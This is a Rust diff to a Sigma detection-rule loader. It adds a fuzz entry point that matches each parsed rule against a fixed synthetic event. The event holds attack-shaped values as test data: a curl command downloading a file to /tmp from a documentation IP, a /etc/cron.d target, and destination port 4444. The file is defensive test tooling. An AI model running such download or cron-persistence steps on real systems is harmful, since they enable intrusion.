@@ -158,8 +158,38 @@ fn signature(dir: &Path) -> Vec<(PathBuf, SystemTime, u64)> {
 /// Parses one rule file; `Ok(None)` for rules of other log sources.
 fn load_file(path: &Path) -> anyhow::Result<Option<Loaded>> {
     let text = std::fs::read_to_string(path)?;
+    let stem = path.file_stem().unwrap_or_default().to_string_lossy();
+    parse_rule(&text, &stem)
+}
+
+/// Parses one rule's text as the loader does and, when it is one vigil
+/// evaluates, matches it against a fixed event of each category: the entry
+/// point of the `rules` fuzz target (neither may panic, whatever the text).
+/// `Ok(true)`: loaded; `Ok(false)`: a rule for another log source.
+pub fn check_rule_text(text: &str) -> anyhow::Result<bool> {
+    let Some(r) = parse_rule(text, "rule")? else {
+        return Ok(false);
+    };
+    let mut ev = sigma_rust::Event::new();
+    for (k, v) in [
+        ("Image", "/usr/bin/curl"),
+        ("CommandLine", "curl -o /tmp/x http://198.51.100.7/x"),
+        ("ParentImage", "/usr/bin/node"),
+        ("TargetFilename", "/etc/cron.d/x"),
+        ("DestinationIp", "198.51.100.7"),
+        ("DestinationPort", "4444"),
+        ("ProcessId", "4242"),
+    ] {
+        ev.insert(k, v);
+    }
+    let _ = r.rule.is_match(&ev);
+    Ok(true)
+}
+
+/// [`load_file`] on the text; `stem` names a rule without an id.
+fn parse_rule(text: &str, stem: &str) -> anyhow::Result<Option<Loaded>> {
     anyhow::ensure!(text.len() < 1 << 20, "rule file larger than 1 MiB");
-    let rule = sigma_rust::rule_from_yaml(&text).map_err(|e| anyhow::anyhow!("{e}"))?;
+    let rule = sigma_rust::rule_from_yaml(text).map_err(|e| anyhow::anyhow!("{e}"))?;
     if let Some(p) = &rule.logsource.product {
         if p != "linux" {
             return Ok(None);
@@ -186,12 +216,7 @@ fn load_file(path: &Path) -> anyhow::Result<Option<Loaded>> {
         .filter(|t| t.starts_with('t') && t[1..].starts_with(|c: char| c.is_ascii_digit()))
         .map(|t| t.to_ascii_uppercase())
         .collect();
-    let id = rule.id.clone().unwrap_or_else(|| {
-        path.file_stem()
-            .unwrap_or_default()
-            .to_string_lossy()
-            .into_owned()
-    });
+    let id = rule.id.clone().unwrap_or_else(|| stem.to_string());
     Ok(Some(Loaded {
         id,
         title: rule.title.clone(),
